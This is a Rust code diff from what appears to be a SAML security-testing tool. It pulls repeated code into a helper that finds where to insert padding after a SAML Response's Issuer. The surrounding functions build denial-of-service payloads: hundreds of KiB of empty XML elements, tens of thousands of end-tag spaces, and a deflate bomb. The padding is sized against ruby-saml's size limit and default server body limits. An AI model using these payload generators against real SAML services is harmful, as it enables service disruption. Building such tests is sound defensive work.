@@ -124,6 +124,16 @@ pub fn deflate_bomb_by_redirect(f: &Forge) -> Result<Burden, Skip> {
     })
 }
 
+/// Where every response, encrypted assertion or not, has room for more: right after the
+/// Response's Issuer (or its start tag, without one).
+fn after_response_issuer(doc: &Doc) -> usize {
+    let response = doc.tree.root_element();
+    bytes::child(response, ASSERTION_NS, "Issuer").map_or_else(
+        || bytes::after_start_tag(doc.src, response),
+        |i| i.range().end,
+    )
+}
+
 /// How many bytes of empty elements the raw-XML burden carries: 448 KiB, so the message is
 /// well over the 250,000 bytes ruby-saml takes and, posted with only what a form must escape
 /// escaped, under the body limits servers set by default (Werkzeug 500 KB, nginx 1 MiB).
@@ -144,11 +154,7 @@ const RAW_XML_GROUP: usize = 100;
 /// answers both at once.
 pub fn raw_xml_oversize(f: &Forge) -> Result<Burden, Skip> {
     let doc = Doc::parse(f.seed)?;
-    let response = doc.tree.root_element();
-    let at = bytes::child(response, ASSERTION_NS, "Issuer").map_or_else(
-        || bytes::after_start_tag(doc.src, response),
-        |i| i.range().end,
-    );
+    let at = after_response_issuer(&doc);
     let group = format!("<y>{}</y>", "<x/>".repeat(RAW_XML_GROUP));
     let groups = RAW_XML_PADDING / group.len();
     let with = |padding: String| bytes::splice(doc.src, vec![bytes::insert(at, padding)]);
@@ -763,11 +769,7 @@ pub const END_TAG_MIN_SPACES: usize = 32_000;
 /// only time counts.
 pub fn end_tag_whitespace(f: &Forge) -> Result<Burden, Skip> {
     let doc = Doc::parse(f.seed)?;
-    let response = doc.tree.root_element();
-    let at = bytes::child(response, ASSERTION_NS, "Issuer").map_or_else(
-        || bytes::after_start_tag(doc.src, response),
-        |i| i.range().end,
-    );
+    let at = after_response_issuer(&doc);
     let room = (END_TAG_POSTED / 4 * 3).saturating_sub(doc.src.len() + "<x></x>".len());
     if room < END_TAG_MIN_SPACES {
         return Err(Skip::NotApplicable(format!(
